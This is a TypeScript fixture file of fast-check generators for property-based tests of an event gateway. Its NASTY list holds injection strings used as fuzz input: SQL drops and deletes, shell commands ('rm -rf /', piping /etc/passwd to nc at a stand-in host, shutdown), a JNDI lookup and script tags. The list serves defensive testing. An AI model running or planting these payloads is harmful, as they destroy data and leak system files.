import fc from 'fast-check';
import { isStorable, toStorable } from '@kana/platform';

// Inputs for the gateway's property-based tests. A fixed seed makes a failure
// reproducible from the log alone (fast-check prints seed and path on failure).
export const SEED = 7_2024;

export const ROUTES = ['/v1/segment', '/v1/identify', '/v1/track', '/v1/batch'] as const;
export type Route = (typeof ROUTES)[number];

/** Strings that break naive SQL, shells, templates, terminals or byte-counting. */
export const NASTY = [
  "'; DROP TABLE users; --",
  '" OR "1"="1',
  "Robert'); DELETE FROM usage_records;--",
  '$(rm -rf /)',
  '`id`',
  '; cat /etc/passwd | nc evil 1',
  '&& shutdown -h now',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  'a\u0000b',
  '\u0000',
  '\u202Egnp.exe\u202C',
  'مرحبا بالعالم',
  'שלום',
  '👩‍👩‍👧‍👦🔥',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  '\r\n\t\b\f\v',
  '\\',
  '%00%27',
  '\uFEFF',
  '\uD83D',
  '\uDE00x',
  '\u2028\u2029',
];

export const nastyString = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.array(fc.constantFrom(...NASTY), { minLength: 1, maxLength: 4 }).map((parts) => parts.join('')),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }),
  // Half surrogates: legal in a JSON text (as \uXXXX escapes), not in UTF-8.
  fc.string({ unit: fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code)), minLength: 1, maxLength: 4 }),
);

/**
 * A user id the gateway must accept: not blank, not a placeholder, within 512 characters, and
 * storable (no U+0000, no half of a surrogate pair: those are a 400, see platform's storable.ts).
 */
export const validId = nastyString.filter(
  (id) => id.trim() !== '' && id.length <= 512 && isStorable(id) && !['anonymous', 'null', 'undefined', '0', 'nil', 'none', 'nan'].includes(id.trim().toLowerCase()),
);

/**
 * Free-form JSON as a client sends it in traits/properties/context. Keys that
 * the platform refuses by design (`__proto__`, `constructor.prototype`, 400
 * before any code sees them) are left to the poisoning properties.
 */
const poisoned = (value: unknown): boolean => /"__proto__"|"constructor"\s*:\s*\{[^]*"prototype"/.test(JSON.stringify(value));
const jsonLeaf = fc.oneof(
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer({ min: -(2 ** 31), max: 2 ** 31 }),
  fc.constantFrom(0, -1, 2 ** 53 - 1, -(2 ** 53) + 1, 1e21, 1.5e-300, 123456789.123456, Number.MAX_VALUE, -Number.MIN_VALUE),
  fc.boolean(),
  fc.constant(null),
  nastyString,
);
const freeKey = fc.oneof(nastyString, fc.constantFrom('delta', 'featureId', 'email', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', ''));
const { json } = fc.letrec((tie) => ({
  json: fc.oneof({ depthSize: 'small', withCrossShrink: true }, jsonLeaf, fc.array(tie('json'), { maxLength: 4 }), tie('object')),
  object: fc.dictionary(freeKey, tie('json'), { maxKeys: 5, noNullPrototype: true }),
}));
export const freeObject = fc
  .dictionary(freeKey, json, { maxKeys: 6, noNullPrototype: true })
  .filter((value) => !poisoned(value) && JSON.stringify(value).length < 8_000) as fc.Arbitrary<Record<string, unknown>>;

const isoTimestamp = fc.date({ min: new Date('1971-01-01T00:00:00Z'), max: new Date('9000-01-01T00:00:00Z'), noInvalidDate: true }).map((date) => date.toISOString());

/** A valid track event; properties.delta, when present, is a finite number. */
export const validTrack = fc.record({
  type: fc.constant('track' as const),
  userId: validId,
  messageId: validId,
  event: validId,
  timestamp: isoTimestamp,
  properties: fc.tuple(freeObject, fc.option(fc.double({ noNaN: true, noDefaultInfinity: true }), { nil: undefined })).map(([properties, delta]) => {
    const { delta: _ignored, ...rest } = properties;
    return delta === undefined ? rest : { ...rest, delta };
  }),
  context: freeObject,
  integrations: freeObject,
});

export const validIdentify = fc.record({
  type: fc.constant('identify' as const),
  userId: validId,
  messageId: validId,
  timestamp: isoTimestamp,
  traits: freeObject,
  context: freeObject,
  integrations: freeObject,
});

export const validEvent = fc.oneof(validTrack, validIdentify);
export type ValidEvent = typeof validTrack extends fc.Arbitrary<infer T> ? T | (typeof validIdentify extends fc.Arbitrary<infer U> ? U : never) : never;

/** The same value as the receiving side sees it after a JSON round trip (-0 is 0, undefined fields absent). */
export const asSent = <T>(value: T): T => JSON.parse(JSON.stringify(value)) as T;

/** The free-form parts of an event whose text Postgres cannot store, as the gateway stores them. */
export const FREE_PARTS = ['traits', 'properties', 'context', 'integrations'] as const;

/**
 * An event as the gateway stores it: as sent (asSent), with U+0000 and half surrogate pairs in its
 * free-form parts replaced by U+FFFD.
 */
export function asStored<T extends object>(event: T): T {
  const sent = asSent(event) as Record<string, unknown>;
  for (const part of FREE_PARTS) if (part in sent) sent[part] = toStorable(sent[part]);
  return sent as T;
}
